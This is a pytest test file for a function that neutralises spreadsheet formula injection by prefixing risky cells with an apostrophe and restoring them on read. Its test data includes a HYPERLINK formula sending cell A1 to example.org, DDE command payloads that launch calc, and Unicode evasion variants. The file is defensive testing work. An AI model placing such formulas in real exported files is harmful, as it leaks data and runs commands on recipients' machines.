"""No text becomes a formula in a spreadsheet, and every text comes back as it was."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mockinterview.batch.cell import as_text_cell, from_text_cell

STARTERS = "=+-@＝＋－＠\t\r\n"


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://example.org/?"&A1,"ok")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\ufeff=1+1",
        "\u200b=1+1",
        "＝1＋1",
        "＠SUM(1)",
        "- 第一点\n- 第二点",
        "-1\n=2",
        "+１",
        "'=1+1",
        "−1+2",
    ],
)
def test_what_could_run_gets_an_apostrophe(text: str) -> None:
    assert as_text_cell(text) == "'" + text


@pytest.mark.parametrize("number", ["-5", "+3.25", "0.5", "-.5", "-1e-7", "1E5", "-12.5%", "100"])
def test_numbers_stay_numbers(number: str) -> None:
    assert as_text_cell(number) == number


@pytest.mark.parametrize("text", ["", "a = b", "键=值", "'quoted' text", "1-2", "n=3", "满分 10/10"])
def test_other_text_is_left_alone(text: str) -> None:
    assert as_text_cell(text) == text


@given(st.text(alphabet=st.sampled_from(STARTERS + "'1a中 ,\"")) | st.text())
def test_no_cell_starts_like_a_formula_and_every_text_comes_back(text: str) -> None:
    cell = as_text_cell(text)
    assert cell[:1] not in tuple(STARTERS) or float(cell.removesuffix("%")) is not None  # else ValueError
    assert from_text_cell(cell) == text


def test_it_survives_a_csv_file() -> None:
    answers = ['=1+1,"2"', "line one\r\n=line two", "'=x", "-3"]
    file = io.StringIO(newline="")
    csv.writer(file).writerows([as_text_cell(answer)] for answer in answers)
    read = [from_text_cell(row[0]) for row in csv.reader(io.StringIO(file.getvalue(), newline=""))]
    assert read == answers
